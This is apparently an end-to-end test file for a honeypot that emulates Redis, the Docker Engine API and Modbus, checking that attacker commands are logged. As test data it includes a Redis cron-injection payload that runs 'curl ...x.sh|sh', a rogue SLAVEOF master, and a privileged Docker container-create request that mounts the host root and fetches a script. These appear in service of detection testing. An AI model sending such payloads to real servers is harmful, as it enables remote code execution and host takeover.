package e2e

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
)

// Redis, Docker Engine API and Modbus/TCP against their real clients.

// authOf is the "auth" field of a record as a map.
// TestServicesRedis: redis-cli's commands get Redis 7's answers, and every
// command, the rogue master and the AUTH attempt are recorded.
func TestServicesRedis(t *testing.T) {
	t.Parallel()
	Require(t, "redis-cli", "nmap")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start()
	cli := func(args ...string) string {
		t.Helper()
		out, err := l.InClient(20*time.Second, "redis-cli", append([]string{"-h", RespIP4, "-p", "6379"}, args...)...)
		if err != nil {
			t.Errorf("redis-cli %v: %v\n%s", args, err, out)
		}
		return out
	}
	if out := cli("PING"); strings.TrimSpace(out) != "PONG" {
		t.Errorf("PING: %q", out)
	}
	if out := cli("INFO", "server"); !strings.Contains(out, "redis_version:7.0.") || !strings.Contains(out, "tcp_port:6379") {
		t.Errorf("INFO server: %q", out)
	}
	if out := cli("CONFIG", "GET", "dir"); out != "dir\n/var/lib/redis\n" {
		t.Errorf("CONFIG GET dir: %q", out)
	}
	if out := cli("CONFIG", "SET", "dir", "/tmp"); strings.TrimSpace(out) != "OK" {
		t.Errorf("CONFIG SET: %q", out)
	}
	if out := cli("SLAVEOF", "203.0.113.9", "6379"); strings.TrimSpace(out) != "OK" {
		t.Errorf("SLAVEOF: %q", out)
	}
	// redis-cli prints the error and exits 0
	if out := cli("AUTH", "secret"); !strings.Contains(out, "AUTH <password> called without any password configured for the default user") {
		t.Errorf("AUTH: %q", out)
	}
	if out := cli("SET", "x", "\n*/1 * * * * curl -fsSL http://203.0.113.5/x.sh|sh\n"); strings.TrimSpace(out) != "OK" {
		t.Errorf("SET: %q", out)
	}
	// another port: detection by content
	if out, _ := l.InClient(20*time.Second, "redis-cli", "-h", RespIP4, "-p", "7000", "PING"); strings.TrimSpace(out) != "PONG" {
		t.Errorf("PING on 7000: %q", out)
	}
	nm, err := l.InClient(120*time.Second, "nmap", "-sV", "-Pn", "-n", "-p", "6379", RespIP4)
	t.Logf("nmap -sV:\n%s", nm)
	if err != nil || !strings.Contains(nm, "Redis key-value store 7.0.") {
		t.Errorf("nmap -sV: %v\n%s", err, nm)
	}
	recs := appEvents(t, l, "redis")
	var cmds []string
	var master, url bool
	var auth map[string]any
	for _, a := range recs {
		cmds = append(cmds, str(a["command"]))
		if str(a["master"]) == "203.0.113.9:6379" {
			master = true
		}
		if strings.Contains(str(a["urls"]), "http://203.0.113.5/x.sh") {
			url = true
		}
		if m := authOf(a); m != nil {
			auth = m
		}
	}
	all := strings.Join(cmds, "|")
	for _, c := range []string{"PING", "INFO server", "CONFIG GET dir", "CONFIG SET dir /tmp", "SLAVEOF 203.0.113.9 6379", "AUTH secret"} {
		if !strings.Contains(all, c) {
			t.Errorf("command %q not recorded: %s", c, all)
		}
	}
	if !master || !url {
		t.Errorf("master %v url %v: %v", master, url, recs)
	}
	if str(auth["protocol"]) != "redis" || str(auth["user"]) != "default" || str(auth["password"]) != "secret" || auth["success"] != false {
		t.Errorf("auth record %v", auth)
	}
}

// TestServicesRedisAuth: with redis_auth = "required" every command
// before AUTH is refused and every password is wrong.
func TestServicesRedisAuth(t *testing.T) {
	t.Parallel()
	Require(t, "redis-cli")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start("--profile", writeProfile(t, l, "tcp = [6379]\n[host.banners]\nredis = \"7.0.11\"\nredis_auth = \"required\"\n"))
	out, _ := l.InClient(20*time.Second, "redis-cli", "-h", RespIP4, "INFO")
	if !strings.Contains(out, "NOAUTH Authentication required.") {
		t.Errorf("INFO: %q", out)
	}
	out, _ = l.InClient(20*time.Second, "redis-cli", "-h", RespIP4, "--user", "admin", "--pass", "hunter2", "--no-auth-warning", "PING")
	if !strings.Contains(out, "WRONGPASS") {
		t.Errorf("AUTH admin: %q", out)
	}
	var got []string
	for _, a := range appEvents(t, l, "redis") {
		if m := authOf(a); m != nil {
			got = append(got, str(m["user"])+":"+str(m["password"]))
		}
	}
	if strings.Join(got, ",") != "admin:hunter2" {
		t.Errorf("auth records %v", got)
	}
}

// TestServicesDocker: curl against the Docker Engine API: version, a
// container creation refused for a missing image, the pull failing.
func TestServicesDocker(t *testing.T) {
	t.Parallel()
	Require(t, "curl", "nmap")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start("--profile", writeProfile(t, l, "tcp = [22, 2375]\n"))
	base := "http://" + RespIP4 + ":2375"
	out, err := l.InClient(20*time.Second, "curl", "-sS", "-i", base+"/version")
	if err != nil || !strings.Contains(out, "Api-Version: 1.43") || !strings.Contains(out, "Server: Docker/24.0.") {
		t.Errorf("/version: %v\n%s", err, out)
	}
	_, body, _ := strings.Cut(out, "\r\n\r\n")
	var v map[string]any
	if err := json.Unmarshal([]byte(body), &v); err != nil || str(v["ApiVersion"]) != "1.43" || str(v["Os"]) != "linux" {
		t.Errorf("/version body %q: %v", body, err)
	}
	out, _ = l.InClient(20*time.Second, "curl", "-sS", "-X", "POST", "-H", "Content-Type: application/json",
		"-d", `{"Image":"alpine","Cmd":["sh","-c","wget http://203.0.113.5/x.sh"],"HostConfig":{"Privileged":true,"Binds":["/:/mnt"]}}`,
		base+"/v1.43/containers/create")
	if !strings.Contains(out, `"message":"No such image: alpine:latest"`) {
		t.Errorf("create: %q", out)
	}
	out, _ = l.InClient(20*time.Second, "curl", "-sS", "-X", "POST", base+"/v1.43/images/create?fromImage=alpine&tag=latest")
	if !strings.Contains(out, `"status":"Pulling from library/alpine"`) || !strings.Contains(out, `"error"`) {
		t.Errorf("pull: %q", out)
	}
	nm, err := l.InClient(120*time.Second, "nmap", "-sV", "-Pn", "-n", "-p", "2375", RespIP4)
	t.Logf("nmap -sV:\n%s", nm)
	if err != nil || !strings.Contains(nm, "Docker") {
		t.Errorf("nmap -sV: %v\n%s", err, nm)
	}
	var create, pull bool
	for _, a := range appEvents(t, l, "docker") {
		switch str(a["path"]) {
		case "/v1.43/containers/create":
			create = str(a["image"]) == "alpine" && strings.Contains(str(a["urls"]), "http://203.0.113.5/x.sh") &&
				str(a["privileged"]) == "true" && str(a["command"]) == "sh -c wget http://203.0.113.5/x.sh"
			if !create {
				t.Errorf("create record %v", a)
			}
		case "/v1.43/images/create":
			pull = str(a["image"]) == "alpine:latest"
		}
	}
	if !create || !pull {
		t.Errorf("create %v pull %v", create, pull)
	}
}

// TestServicesModbus: mbpoll reads holding registers, nmap's
// modbus-discover reads the device identification.
func TestServicesModbus(t *testing.T) {
	t.Parallel()
	Require(t, "mbpoll", "nmap")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start()
	out, err := l.InClient(20*time.Second, "mbpoll", "-m", "tcp", "-a", "1", "-r", "1", "-c", "10", "-1", RespIP4)
	t.Logf("mbpoll:\n%s", out)
	if err != nil || !strings.Contains(out, "[1]:") || !strings.Contains(out, "[10]:") {
		t.Errorf("mbpoll: %v\n%s", err, out)
	}
	out, err = l.InClient(20*time.Second, "mbpoll", "-m", "tcp", "-a", "1", "-r", "5", "-1", RespIP4, "42")
	t.Logf("mbpoll write:\n%s", out)
	if !strings.Contains(strings.ToLower(out), "illegal function") {
		t.Errorf("mbpoll write: %v\n%s", err, out)
	}
	nm, err := l.InClient(120*time.Second, "nmap", "-Pn", "-n", "-p", "502", "--script", "modbus-discover", RespIP4)
	t.Logf("nmap modbus-discover:\n%s", nm)
	if err != nil || !strings.Contains(nm, "Schneider Electric") {
		t.Errorf("nmap modbus-discover: %v\n%s", err, nm)
	}
	var read, write bool
	for _, a := range appEvents(t, l, "modbus") {
		switch str(a["function"]) {
		case "read_holding_registers":
			read = read || str(a["address"]) == "0" && str(a["quantity"]) == "10" && str(a["unit_id"]) == "1"
		case "write_single_register":
			write = write || str(a["address"]) == "4" && str(a["values"]) == "[42]"
		}
	}
	if !read || !write {
		t.Errorf("read %v write %v", read, write)
	}
}
